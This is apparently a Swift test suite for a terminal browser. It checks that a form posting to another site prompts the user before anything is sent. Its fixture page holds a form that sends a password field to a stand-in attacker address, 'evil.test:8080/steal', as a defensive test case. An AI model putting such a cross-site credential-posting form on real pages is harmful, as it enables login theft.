import Foundation
import Testing
import Render
import Turbo
import UI

/// Issue 32: a form of the app whose action is on another site asks before
/// anything is sent, in the question box `q` uses, broken at spaces.
@Suite("Browser: a form to another site asks first")
struct CrossSiteFormQuestionTests {
    private static let page = "<title>App</title><form method=post action=\"http://evil.test:8080/steal\">"
        + "<input type=password name=pw value=hunter2><button>Send</button></form>"

    @Test func theQuestionComesFirstAndNoSendsNothing() {
        var driver = BrowserDriver(rows: 12, columns: 40)
        driver.open("http://app.test/")
        driver.answer(Self.page)
        driver.press(.tab, .tab, .enter)
        #expect(!driver.effects.contains { if case .submitForm = $0 { true } else { false } }, "nothing sent before the answer")
        let box = driver.rows.filter { $0.contains("│") }.map { $0.trimmingCharacters(in: .whitespaces) }
        #expect(box.prefix(2) == ["│ Send this form to another site,      │", "│ http://evil.test:8080?               │"], "\(driver.rows)")
        let corner = driver.rows.firstIndex { $0.contains("┌") }!
        let left = driver.rows[corner].firstIndex(of: "┌").map { driver.rows[corner].distance(from: driver.rows[corner].startIndex, to: $0) }!
        #expect(driver.frame[corner, left].style.attributes.contains(.bold), "the box is drawn as q's is")
        driver.press(.character("n"))
        #expect(!driver.effects.contains { if case .submitForm = $0 { true } else { false } })
        #expect(driver.state.question == nil)
    }

    @Test func yesSendsIt() {
        var driver = BrowserDriver(rows: 12, columns: 60)
        driver.open("http://app.test/")
        driver.answer(Self.page)
        driver.press(.tab, .tab, .enter, .character("y"))
        #expect(driver.effects.contains { if case .submitForm = $0 { true } else { false } })
    }

    @Test func aFormOfTheAppIsSentWithoutAQuestion() {
        var driver = BrowserDriver(rows: 12, columns: 60)
        driver.open("http://app.test/")
        driver.answer("<title>App</title><form method=post action=/save><input name=t value=x><button>Save</button></form>")
        driver.press(.tab, .tab, .enter)
        #expect(driver.state.question == nil)
        #expect(driver.effects.contains { if case .submitForm = $0 { true } else { false } })
    }
}
